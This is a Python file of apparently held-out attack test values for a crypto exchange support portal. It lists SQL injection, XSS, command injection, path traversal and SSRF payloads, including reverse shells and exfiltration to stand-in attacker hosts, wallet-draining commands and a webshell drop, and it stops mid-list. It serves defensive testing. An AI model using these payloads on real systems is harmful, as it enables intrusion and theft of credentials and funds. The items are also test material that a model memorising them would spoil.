"""Attack held-out values for the crypto wallet / exchange support portal.

Each value is a working payload against a vulnerable application that places
the value where its class says: a tx hash / address concatenated into SQL, a
node host or txid pasted into a `bitcoin-cli` / `cast` / `solana` shell line,
a keystore or KYC file name joined to a directory, an RPC / webhook / token
metadata URL fetched server-side, a memo rendered by a server-side template or
exported to CSV, an address label shown unescaped in the agent console, a
MongoDB filter, a log line or outgoing header, an LDAP filter or an XPath query
over an XML address book.

Class format: <context>-<technique>[+<encoding>]; `plain-` classes carry the
bare technique without crypto-domain text.  Attacker infrastructure is
attacker.example, 203.0.113.0/24 and 198.51.100.0/24; all addresses, hashes
and secrets are fake.

Mostly hand-written literals; a small share comes from templates that put
hand-written payload pools into domain contexts and apply one encoding.
Deterministic: random.Random(SEED), no set iteration.
"""

import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 7902
PREFIX = "ha79"
MIN_LITERAL_SHARE = 0.80

HEX = "0123456789abcdef"
B32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def fake_hex(rng, n):
    return "".join(rng.choice(HEX) for _ in range(n))


# ---------------------------------------------------------------------------
# Hand-written literals: (class, value)
# ---------------------------------------------------------------------------

LITERALS = {}

LITERALS["sqli"] = [
    ("ticket-de-union-select", "Meine Auszahlung hängt seit Montag' UNION SELECT iban,bic FROM bank_accounts-- "),
    ("plain-pg-stacked-sleep", "1; SELECT pg_sleep(5)--"),
    ("plain-mssql-waitfor", "1'; WAITFOR DELAY '0:0:5'--"),
    ("txhash-union-select", "0x9fc76417374aa880d4449a1f7f31ec597f00b1f6f3dd2d66f4c9c6c445836d8b' UNION SELECT address,encrypted_privkey,NULL FROM hot_wallets--"),
    ("address-boolean-blind", "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed' AND SUBSTRING((SELECT api_secret FROM api_keys ORDER BY id LIMIT 1),1,1)='k' AND '1'='1"),
    ("amount-stacked-update", "0.00042; UPDATE balances SET amount=amount+100 WHERE user_id=7731 AND asset='BTC';--"),
    ("memo-pg-sleep-concat", "rent payment'||(SELECT pg_sleep(7))||'"),
    ("btc-address-extractvalue-error", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq' AND extractvalue(1,concat(0x7e,(SELECT password_hash FROM admins LIMIT 1)))-- -"),
    ("sort-orderby-case-blind", "created_at,(CASE WHEN (SELECT substr(secret,1,1) FROM api_keys WHERE id=1)='k' THEN amount ELSE fee END)"),
    ("jsonrpc-param-tautology", '{"jsonrpc":"2.0","method":"eth_getBalance","params":["0x1f9090aaE28b8a3dCeaDf281B0F12828e676c326\' OR \'1\'=\'1","latest"],"id":7}'),
    ("ticket-search-union-like", "withdrawal pending%' UNION ALL SELECT email,kyc_doc_url,tax_id FROM customers-- "),
    ("sol-address-tautology-offset", "7EYnhQoR9YM3N7UoaKRoA44Uy8JeaZV3qyouov87awMs' OR 1=1 LIMIT 1 OFFSET 3--"),
    ("label-insert-drop", "Cold storage'); DROP TABLE address_book;--"),
    ("amount-mssql-waitfor-conditional", "0.015'; IF (SELECT COUNT(*) FROM withdrawals WHERE status='pending')>0 WAITFOR DELAY '0:0:6'--"),
    ("trc20-address-xp-cmdshell", "TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE'; EXEC master..xp_cmdshell 'powershell -c \"iwr http://203.0.113.45/a.ps1 | iex\"';--"),
    ("txhash-sqlite-master", "0x3b4c1e0a9d8f7e6d5c4b3a29181706f5e4d3c2b1' UNION SELECT name, sql FROM sqlite_master--"),
    ("btc-address-oracle-union", "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh' UNION SELECT name, password FROM sys.user$ WHERE ROWNUM<5--"),
    ("derivation-path-union", "m/44' UNION SELECT mnemonic_enc FROM wallet_seeds WHERE '1'='1"),
    ("amount-mysql-if-sleep", "0.5 ETH' AND IF(ASCII(SUBSTRING(USER(),1,1))>100,SLEEP(5),0)-- x"),
    ("memo-pg-copy-program", "invoice 88'; COPY (SELECT '') TO PROGRAM 'curl -s http://198.51.100.7/s.sh|sh';--"),
    ("limit-param-union", "50 UNION SELECT id,api_key,api_secret,4,5 FROM exchange_keys"),
    ("address-union+comment-spaces", "0x7a3B'/**/UNION/**/SELECT/**/seed_phrase,2/**/FROM/**/wallets#"),
    ("symbol-union+case-mix", "USDT' uNiOn SeLeCt login,pwd_hash FrOm staff-- -"),
    ("txhash-union+urlenc", "0x88df016429689c079f3b2f6ad39fa052532c5679%27%20UNION%20SELECT%20private_key%2CNULL%20FROM%20keystore--%20"),
    ("btc-address-tautology+double-urlenc", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq%2527%2520OR%25201%253D1--%2520"),
    ("api-json-symbol-pg-sleep", '{"symbol":"BTCUSDT\' AND 1=(SELECT 1 FROM pg_sleep(5))--","limit":500}'),
    ("querystring-tautology+urlenc", "symbol=ETHUSDT%27%20OR%20%27x%27%3D%27x&limit=500"),
    ("kyc-name-union", "O'Connor' UNION SELECT document_number, date_of_birth FROM kyc_documents--"),
    ("p2p-order-floor-rand-error", "P2P-20240518-7731' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT api_secret FROM api_keys LIMIT 1),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- "),
    ("txhash-pg-cast-error", "0x3c9a1f1e2' AND 1=CAST((SELECT string_agg(email||':'||totp_secret, ',') FROM users) AS int)--"),
    ("label-insert-subquery", "savings', (SELECT secret FROM api_keys LIMIT 1))-- "),
    ("label-update-privilege", "new label', is_admin=1, withdraw_limit=999999 WHERE user_id=7731-- "),
    ("memo-pg-read-file", "x'; SELECT pg_read_file('/var/lib/postgresql/.pgpass');--"),
    ("amount-into-outfile", "0' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/fee.php'-- -"),
    ("address-load-file", "bc1q9h7garjh9z0wyyl7nlk3vq6n8ujmz4yd03kf0x' UNION SELECT LOAD_FILE('/etc/bitcoin/bitcoin.conf'),2-- -"),
    ("memo-mssql-xp-dirtree-oob", "payout'; EXEC master..xp_dirtree '\\\\exfil.attacker.example\\share';--"),
    ("memo-oracle-utl-http-oob", "rent' || UTL_HTTP.REQUEST('http://attacker.example/o?u='||(SELECT user FROM dual)) || '"),
    ("txhash-sqlite-randomblob-blind", "0xe2a1f1a5' AND (SELECT CASE WHEN substr((SELECT value FROM secrets LIMIT 1),1,1)='s' THEN randomblob(300000000) ELSE 1 END)--"),
    ("gwei-numeric-tautology", "21 OR 1=1"),
    ("amount-numeric-boolean", "1.5e-8 AND (SELECT COUNT(*) FROM users WHERE role='admin')>0"),
    ("chainid-in-list-union", "137) UNION SELECT rpc_url, rpc_auth FROM nodes--"),
    ("search-like-information-schema", "%' AND 1=0 UNION SELECT table_name, column_name FROM information_schema.columns WHERE table_name LIKE '%wallet"),
    ("ticket-id-group-concat", "-1' UNION SELECT GROUP_CONCAT(username,0x3a,password SEPARATOR 0x0a),2 FROM admin_users-- -"),
    ("ticket-id-mssql-having-error", "448812' HAVING 1=1--"),
    ("address-pg-version-cast", "0x2B5AD5c4795c026514f8317c7a215E218DcCD6cF' AND 1=CAST(version() AS int)--"),
    ("btc-address-pg-case-sleep", "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'; SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(8) ELSE pg_sleep(0) END--"),
    ("jsonrpc-method-union", '{"jsonrpc":"2.0","method":"getblock\' UNION SELECT rpcpassword FROM node_config--","params":[],"id":1}'),
    ("abi-name-concat-subquery", '{"name":"transfer\'||(SELECT token FROM sessions ORDER BY created_at DESC LIMIT 1)||\'","type":"function"}'),
    ("memo-insert-whitelist", "Payment for invoice 55'); INSERT INTO withdrawal_whitelist(user_id,address) VALUES (7731,'bc1qz8w0s3jn54khce6mua7lqpzry9x8gf2tvdw0s3');--"),
    ("plain-tautology", "' OR '1'='1' -- "),
    ("plain-union-null-probe", "' UNION SELECT NULL,NULL,NULL-- "),
    ("plain-mysql-sleep", "1' AND SLEEP(5)#"),
    ("plain-mssql-shutdown", "'; SHUTDOWN WITH NOWAIT;--"),
    ("plain-numeric-union-version", "1 AND 1=2 UNION SELECT @@version,2"),
    ("plain-updatexml-error", "' AND updatexml(null,concat(0x3a,database()),null)-- "),
    ("txhash-union+fullwidth-quote", "0x12ab34cd＇ UNION SELECT api_secret,2 FROM api_keys--"),
    ("address-union-versioned-comment", "0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D' /*!50000UNION*/ /*!50000SELECT*/ secret,2 FROM api_keys-- -"),
    ("memo-parenthesis-nospace-sleep", "'or(select(1)from(select(sleep(6)))a)or'"),
    ("label-hex-literal-username", "x' UNION SELECT 1,password FROM users WHERE username=0x61646d696e-- -"),
    ("limit-pg-chr-string-agg", "1 UNION SELECT NULL,string_agg(key_material,CHR(10)) FROM wallet_keys--"),
    ("sort-orderby-pg-sleep", "fee DESC, (SELECT 1 FROM pg_sleep(4))"),
    ("ticket-id-numeric-pg-sleep", "448812 AND 7=(SELECT 7 FROM pg_sleep(5))"),
    ("memo-mssql-add-sysadmin", "note'; EXEC sp_addsrvrolemember 'support_ro','sysadmin';--"),
    ("label-sqlite-attach-webshell", "x'; ATTACH DATABASE '/var/www/app/static/x.php' AS p; CREATE TABLE p.t(c text); INSERT INTO p.t VALUES('<?php system($_GET[1]);?>');--"),
    ("history-date-filter-tautology", "2024-01-01' OR created_at>'1970-01-01"),
    ("btc-address-union-newline-separated", "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'\nUNION\nSELECT seed,passphrase\nFROM wallet_backups\n--"),
    ("ticket-body-stacked-delete-audit", "Deposit missing since Monday, tx attached.'; DELETE FROM audit_log WHERE user_id=7731;--"),
]

LITERALS["xss"] = [
    ("ticket-zh-img-onerror", "您好，充值还没到账 <img src=x onerror=alert(document.cookie)> 谢谢"),
    ("plain-body-onpageshow", "<body onpageshow=alert(1)>"),
    ("label-img-onerror-cookie", "Cold storage <img src=x onerror=\"fetch('https://attacker.example/c?'+document.cookie)\">"),
    ("ticket-script-image-beacon", "Withdrawal stuck, please help <script>new Image().src='//attacker.example/l?c='+encodeURIComponent(document.cookie)</script>"),
    ("nft-name-svg-onload", "Bored Ape #4417<svg/onload=alert(document.domain)>"),
    ("token-symbol-attr-autofocus", "USDT\" autofocus onfocus=\"location='//attacker.example/?'+localStorage.getItem('jwt')"),
    ("webhook-url-js-uri-withdraw", "javascript:fetch('/api/v1/withdrawals',{method:'POST',credentials:'include',headers:{'Content-Type':'application/json'},body:JSON.stringify({address:'bc1qz8w0s3jn54khce6mua7lqpzry9x8gf2tvdw0s3',amount:'all'})})"),
    ("memo-js-string-breakout", "';fetch('//attacker.example/k?'+document.cookie);//"),
    ("abi-json-script-close", "</script><script>alert(origin)</script>"),
    ("ticket-iframe-srcdoc+html-entities", "<iframe srcdoc=\"&lt;script&gt;top.location='//attacker.example/?'+top.document.cookie&lt;/script&gt;\"></iframe>"),
    ("label-details-ontoggle-import", "<details open ontoggle=import('//attacker.example/x.js')>"),
    ("ticket-anchor-js-uri+html-entities", "<a href=\"javascript&colon;alert(document.cookie)\">Verify wallet</a>"),
    ("ticket-markdown-js-link", "Tx looks stuck, see [Open in explorer](javascript:alert(document.cookie)) for details"),
    ("ticket-body-onload-atob", "<body onload=eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))>"),
    ("label-input-autofocus", "Savings <input autofocus onfocus=alert(document.domain)>"),
    ("ticket-style-import-css-exfil", "<style>@import'//attacker.example/x.css';</style>"),
    ("nft-name-svg-animate-onbegin", "<svg><animate onbegin=alert(document.cookie) attributeName=x dur=1s>"),
    ("memo-js-template-literal", "${fetch('//attacker.example/t?'+document.cookie)}"),
    ("ticket-angular-csti", "{{constructor.constructor('fetch(\"//attacker.example/a?\"+document.cookie)')()}}"),
    ("jsonrpc-error-innerhtml+unicode-escape", '{"jsonrpc":"2.0","method":"eth_call","params":[{"to":"\\u003cimg src=x onerror=alert(document.cookie)\\u003e"}],"id":1}'),
    ("search-reflected-script+urlenc", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("address-script-src+case-mix", "0x8ba1f109551bD432803012645Ac136ddd64DBA72<sCrIpT sRc=//attacker.example/w.js></ScRiPt>"),
    ("label-onerror-tagged-template", "<img src=x onerror=alert`1`>"),
    ("nft-desc-svg-script+html-entities", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("ticket-object-data-uri", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>"),
    ("ticket-meta-refresh-phish", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("ticket-form-seed-phish", "<form action=https://attacker.example/collect method=post><p>Session expired, re-enter your recovery phrase:</p><textarea name=seed></textarea><button>Restore wallet</button></form>"),
    ("ticket-base-href-hijack", "Deposit missing <base href=\"https://attacker.example/\">"),
    ("nft-name-video-source-onerror", "<video><source onerror=alert(document.domain)>"),
    ("label-marquee-onstart", "<marquee onstart=alert(document.cookie)>DCA buys</marquee>"),
    ("kyc-upload-svg-script", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//attacker.example/?'+document.cookie)</script></svg>"),
    ("solidity-snippet-code-block-breakout", "function withdraw() external { /* </code></pre><img src=x onerror=alert(document.domain)><pre><code> */ }"),
    ("ens-name-tag-breakout", "vitalik.eth\"><script>alert(document.domain)</script>"),
    ("explorer-link-attr-single-quote", "https://etherscan.example/tx/0xabc' onmouseover='alert(document.cookie)"),
    ("label-inline-json-breakout", "\"};alert(document.cookie);//"),
    ("nft-image-onerror-exfil-page", "<img src=1 onerror=this.src='//attacker.example/p?'+btoa(document.body.innerText)>"),
    ("memo-svg-settimeout-concat", "<svg onload=setTimeout('al'+'ert(document.domain)')>"),
    ("ticket-script-sendbeacon-localstorage", "<script>navigator.sendBeacon('//attacker.example/b',JSON.stringify(localStorage))</script>"),
    ("label-onerror-dynamic-import", "Hot wallet #3 <img src=x onerror=import('//attacker.example/m.js')>"),
    ("label-dom-clobbering", "<form id=config><input name=apiBase value=//attacker.example/api></form>"),
    ("search-attr-breakout", "\"><img src=x onerror=alert(document.domain)>"),
    ("memo-js-string-arith", "'-alert(document.cookie)-'"),
    ("ticket-textarea-close", "</textarea><script>alert(document.domain)</script>"),
    ("nft-title-close", "</title><script>alert(document.domain)</script>"),
    ("kyc-note-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(document.cookie)>\">"),
    ("nft-svg-xlink-js", "<svg><a xlink:href=\"javascript:alert(document.domain)\"><text x=\"20\" y=\"20\">View tx</text></a></svg>"),
    ("ticket-iframe-js-src", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("label-custom-tag-pointerenter", "<xss onpointerenter=alert(document.cookie) style=display:block>hover to claim airdrop</xss>"),
    ("label-contenteditable-autofocus", "<div contenteditable autofocus onfocus=alert(document.domain)>Trezor #2</div>"),
    ("search-select-autofocus", "<select autofocus onfocus=alert(document.cookie)>"),
    ("plain-script-alert", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-js-uri", "javascript:alert(document.cookie)"),
    ("plain-attr-breakout-confirm", "\"><svg/onload=confirm(1)>"),
    ("abi-function-name-img", '{"name":"<img src=x onerror=alert(document.domain)>","type":"function","inputs":[],"outputs":[]}'),
    ("jsonrpc-method-reflected-svg", '{"jsonrpc":"2.0","method":"<svg onload=alert(document.cookie)>","params":[],"id":1}'),
    ("search-img+double-urlenc", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(document.domain)%253E"),
    ("ticket-multiline-img", "Hi team,\nmy NFT doesn't show in collectibles.\n<img\nsrc=x\nonerror=alert(document.cookie)>\nThanks"),
    ("label-img-onerror+decimal-entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#100;&#111;&#99;&#117;&#109;&#101;&#110;&#116;&#46;&#99;&#111;&#111;&#107;&#105;&#101;&#41;>"),
    ("ticket-anchor-js+hex-entities", "<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)\">Claim airdrop</a>"),
    ("nft-metadata-json-svg", '{"name":"Pixel Punk #77","description":"<svg onload=fetch(\'//attacker.example/n?\'+document.cookie)>","image":"ipfs://bafy/77.png"}'),
    ("token-name-onmouseover", "Wrapped Ether\" onmouseover=\"alert(document.domain)\" x=\""),
    ("kyc-note-style-animation", "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=\"alert(document.cookie)\">Approved</b>"),
]

LITERALS["cmdi"] = [
    ("txid-semicolon-trailing-comment", "a1075db55d416d3ca199f55b6084e211; curl -s http://203.0.113.45/ru.sh | sh # проверьте, пожалуйста"),
    ("plain-newline-cat", "\ncat /etc/passwd"),
    ("txid-semicolon-curl-sh", "4a5e1e4baab89f3a32518a88c31bc87f618f76673e2cc77ab2127b7afdeda33b; curl -s http://203.0.113.45/x.sh | sh"),
    ("eth-address-and-exfil-wallet", "0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045 && base64 ~/.bitcoin/wallets/hot/wallet.dat | curl -d @- https://attacker.example/u"),
    ("sol-address-command-substitution", "7EYnhQoR9YM3N7UoaKRoA44Uy8JeaZV3qyouov87awMs$(curl attacker.example/s|bash)"),
    ("btc-address-backticks-wget", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq`wget -qO- 198.51.100.9/m|sh`"),
    ("invoice-pipe-nc-shell", "lnbc2500u1pvjluezpp5qqqsyqcyq5rqwzqfqqqsyqcyq5rqwzqf|nc 203.0.113.45 4444 -e /bin/sh"),
    ("node-host-bash-reverse-shell", "node.example.net; bash -c 'bash -i >& /dev/tcp/203.0.113.45/9001 0>&1'"),
    ("ping-host-pipe-id", "8.8.8.8 -c 1 | id"),
    ("txid-newline-cat-keystore", "0x88df016429689c079f3b2f6ad39fa052532c56795b733da78a91ebe6a713944b\ncat /root/.ethereum/keystore/*"),
    ("txid-semicolon-ifs-space", "9b0fc92260312ce44e74ef369f5c66bb;cat${IFS}/etc/shadow"),
    ("geth-exec-single-quote-breakout", "eth.syncing'; touch /tmp/pwned; echo '"),
    ("cast-signature-double-quote-breakout", "balanceOf(address)(uint256)\"; id; echo \""),
    ("export-filename-sleep-substitution", "report-2024.csv$(sleep 10)"),
    ("amount-sleep-substitution", "0.5$(sleep 7)"),
    ("wallet-file-win-powershell-download", "wallet.dat & powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.45/r.ps1')\""),
    ("wallet-file-win-type-conf", "wallet.dat | type C:\\Users\\Administrator\\AppData\\Roaming\\Bitcoin\\bitcoin.conf"),
    ("eth-address-newline+urlenc", "0x1f9090aaE28b8a3dCeaDf281B0F12828e676c326%0aid%0a"),
    ("bitcoin-cli-argument-injection-rpcconnect", "-rpcconnect=attacker.example -rpcport=80 getbalance"),
    ("ssh-node-proxycommand-argument", "-oProxyCommand=sh -c 'curl attacker.example/p|sh' validator"),
    ("tar-export-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=\"sh /tmp/x.sh\" exports.tar"),
    ("webhook-test-curl-output-argument", "http://attacker.example/sh.txt -o /var/www/html/sh.php"),
    ("txid-env-exfil", "d5fbf5d48d; env | curl -X POST --data-binary @- https://attacker.example/env"),
    ("eth-address-dns-exfil", "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed;nslookup $(whoami).x.attacker.example"),
    ("ping-host-time-delay", "node.example.net;ping -c 10 127.0.0.1"),
    ("amount-or-sleep", "0.0001 || sleep 9 ||"),
    ("label-backtick-id", "Cold `id` storage"),
    ("txid-path-substring-slash", "a1075db55d;${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd"),
    ("txid-quote-splitting-cat", "a1075db55d;c'a't /e\"t\"c/pa''sswd"),
    ("address-backslash-split-whoami", "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh;w\\h\\o\\am\\i"),
    ("txid-printf-hex+hex-escape", "e2a1f1a5;$(printf '\\x69\\x64')"),
    ("memo-base64-decode-pipe-sh", "gift;echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9pfHNo|base64 -d|sh"),
    ("txid-glob-cat", "0xabc;/???/?at /e??/p?ss??"),
    ("node-host-python-reverse-shell", "rpc.node.example; python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.45\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("txid-crontab-persistence", "9fc76417 && (crontab -l; echo \"*/5 * * * * curl -s attacker.example/b|sh\") | crontab -"),
    ("eth-address-ssh-key-append", "0x2B5AD5c4795c026514f8317c7a215E218DcCD6cF; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE x@attacker.example' >> ~/.ssh/authorized_keys"),
    ("invoice-lncli-sweep", "lnbc10u1pfake0000;lncli sendcoins --addr bc1qz8w0s3jn54khce6mua7lqpzry9x8gf2tvdw0s3 --sweepall --force"),
    ("txid-bitcoin-cli-sendtoaddress", "4a5e1e4b; bitcoin-cli -rpcwallet=hot sendtoaddress bc1qz8w0s3jn54khce6mua7lqpzry9x8gf2tvdw0s3 1.5"),
    ("eth-address-cast-send-drain", "0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359; cast send --private-key $PRIVATE_KEY 0x00000000000000000000000000000000000a77ac --value 10ether"),
    ("amount-win-certutil-download", "0.5 | certutil -urlcache -split -f http://203.0.113.45/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe"),
    ("txid-and-id+urlenc", "4a5e1e4baab89f3a%26%26id"),
    ("eth-address-perl-system", "0x6B175474E89094C44Da98b954EedeAC495271d0F; perl -e 'system(\"id\")'"),
    ("txid-overwrite-static", "0x1 > /dev/null; echo PWNED > /srv/app/static/banner.txt"),
    ("txid-dev-tcp-exfil", "4a5e1e4b$(id>/dev/tcp/203.0.113.45/80)"),
    ("memo-newline-sh", "DCA Monday\n/bin/sh -c \"curl attacker.example|sh\""),
    ("txid-brace-expansion-base64", "4a5e1e4b;{echo,aWQ=}|{base64,-d}|sh"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-whoami", "| whoami"),
    ("plain-substitution-passwd", "$(cat /etc/passwd)"),
    ("plain-backtick-uname", "`uname -a`"),
    ("plain-win-ping-delay", "& ping -n 5 127.0.0.1 &"),
    ("plain-or-curl", "|| curl http://attacker.example/"),
    ("gpg-file-semicolon-comment", "wallet-backup.json.gpg;id;#"),
    ("docker-image-host-escape", "bitcoin-core:26 -printtoconsole; docker run -v /:/host alpine chroot /host sh -c 'cat /etc/shadow'"),
    ("txid-substitution-pipe-sh", "88df0164$( curl -fsSL https://attacker.example/k | sh )"),
    ("eth-address-exec-fd", "0x7a3b;exec 5<>/dev/tcp/203.0.113.45/8080;cat <&5 | sh >&5"),
    ("txid-awk-system", "4a5e1e4b; awk 'BEGIN{system(\"id\")}'"),
    ("cli-paste-multiline-miner", "bitcoin-cli getrawtransaction 4a5e1e4baab89f3a32518a88c31bc87f618f76673e2cc77ab2127b7afdeda33b\nwget http://198.51.100.23/miner -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x --donate-level 0"),
    ("node-host-nohup-miner", "node.example.net;nohup xmrig -o pool.attacker.example:3333 -u 4FAKEWALLET &"),
    ("txid-semicolon+double-urlenc", "4a5e1e4baab89f3a%253Bid"),
    ("address-single-quote-mix", "0x1f90'\"$(id)\"'"),
    ("solana-keypair-argument-injection", "CuieVDEDtLo7FypA9SbLM9saXFdb1dsshEkyErMqkRQq --url http://203.0.113.45:8899 -v"),
    ("derivation-path-semicolon", "m/44'/60'/0'/0/0; cat ~/.config/solana/id.json"),
    ("cast-rpc-url-substitution", "https://rpc.attacker.example/$(cat /root/.foundry/keystores/deployer | base64 -w0)"),
    ("lncli-fee-limit-newline", "500\nlncli exportchanbackup --all --output_file /var/www/html/backup.bin"),
    ("geth-datadir-and", "/mnt/ssd/geth && curl -T /mnt/ssd/geth/keystore/* ftp://203.0.113.45/"),
]

LITERALS["traversal"] = [
    ("plain-dotdot+urlenc-backslash", "..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
    ("keystore-download-dotdot-wallet", "../../../../home/bitcoin/.bitcoin/wallets/hot/wallet.dat"),
    ("keystore-download-dotdot-utc", "../../../root/.ethereum/keystore/UTC--2024-01-01T00-00-00.000000000Z--5aaeb6053f3e94c9b9a09f33669435e7ef1beaed"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("export-file-strip-bypass", "....//....//....//etc/passwd"),
    ("export-file-dotdot+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("jwt-secret-dotdot+double-urlenc", "..%252f..%252f..%252fvar%252flib%252fgeth%252fjwt.hex"),
    ("invoice-pdf-dotdot+urlenc-dots", "%2e%2e/%2e%2e/%2e%2e/srv/app/.env"),
    ("kyc-doc-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("kyc-doc-dotdot+overlong-utf8-3byte", "..%e0%80%af..%e0%80%af..%e0%80%afetc/bitcoin/bitcoin.conf"),
    ("wallet-backup-win-backslash", "..\\..\\..\\Users\\Administrator\\AppData\\Roaming\\Bitcoin\\wallet.dat"),
    ("plain-win-ini", "..\\..\\..\\..\\Windows\\win.ini"),
    ("abi-loader-dotdot-nullbyte-suffix", "../../../../etc/passwd%00.json"),
    ("abi-loader-config-secrets", "../../config/secrets"),
    ("lang-param-proc-environ", "../../../../proc/self/environ"),
    ("abi-loader-proc-cwd", "/proc/self/cwd/config/production.yml"),
    ("kyc-doc-idor-dotdot", "kyc/7731/../../7730/passport_front.jpg"),
    ("export-nested-dotdot-access-log", "exports/2024/../../../../var/log/nginx/access.log"),
    ("upload-zip-slip-entry", "../../../../var/www/html/shell.php"),
    ("plain-absolute-pg-hba", "/var/lib/postgresql/data/pg_hba.conf"),
    ("report-win-strip-bypass", "....\\\\....\\\\....\\\\inetpub\\\\wwwroot\\\\web.config"),
    ("static-tomcat-path-param", "..;/..;/..;/WEB-INF/web.xml"),
    ("invoice-win-dotdot+urlenc", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5csystem.ini"),
    ("kyc-doc-iis-u-escape+u-encoding", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("avatar-mixed-dot-encoding+urlenc", ".%2e/.%2e/.%2e/home/node/.npmrc"),
    ("keypair-absolute-solana", "/home/solana/.config/solana/id.json"),
    ("keystore-dotdot-ssh-key", "../../../../../root/.ssh/id_rsa"),
    ("snapshot-prefix-dotdot-tls-key", "snapshot-840000/../../../../../etc/ssl/private/server.key"),
    ("avatar-file-dotdot-git-config", "avatar.png/../../../../app/.git/config"),
    ("export-file+double-urlenc-dots", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("invoice-pdf-suffix-dotdot", "invoices/INV-8821.pdf/../../../../../../etc/passwd"),
    ("macaroon-strip-bypass-lnd-admin", "....//....//....//root/.lnd/data/chain/bitcoin/mainnet/admin.macaroon"),
    ("lnd-tls-key-dotdot", "../../../../home/lnd/.lnd/tls.key"),
    ("bitcoind-cookie-dotdot", "../../../.bitcoin/.cookie"),
    ("keystore-dir-listing-dotdot", "../../../../var/lib/geth/keystore/"),
    ("kyc-doc-self-reference-dotdot", "/etc/./bitcoin/../passwd"),
    ("export-double-slash-dotdot", "..//..//..//..//etc//passwd"),
    ("export-json-file-field", '{"file":"../../../../etc/passwd","format":"csv"}'),
    ("backup-win-absolute-dotdot", "C:\\ProgramData\\..\\Users\\Public\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"),
    ("kyc-doc-dotdot+fullwidth-solidus", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("export-prefix-check-bypass", "/var/www/app/exports/../../../../etc/passwd"),
    ("plain-dotdot-passwd", "../../../../../../etc/passwd"),
    ("keystore-file-uri-style", "keystore/../../../../../var/lib/bitcoind/wallets/cold/wallet.dat"),
    ("abi-loader-dotdot-node-modules-env", "../../../.env.production"),
]

LITERALS["ssrf"] = [
    ("plain-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A"),
    ("webhook-aws-imds-credentials", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("rpc-url-localhost-bitcoind", "http://127.0.0.1:8332/"),
    ("rpc-url-localhost-geth", "http://localhost:8545"),
    ("rpc-url-ipv6-loopback", "http://[::1]:8545/"),
    ("rpc-url-decimal-loopback+decimal-ip", "http://2130706433:8332/"),
    ("rpc-url-hex-loopback+hex-ip", "http://0x7f000001:9735/"),
    ("beacon-url-octal-loopback+octal-ip", "http://0177.0.0.1:5052/eth/v1/node/identity"),
    ("engine-api-short-loopback+short-ip", "http://127.1:8551/"),
    ("rpc-url-ipv4-mapped+ipv6-mapped", "http://[::ffff:7f00:1]:8545/"),
    ("webhook-gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook-azure-imds-token", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net"),
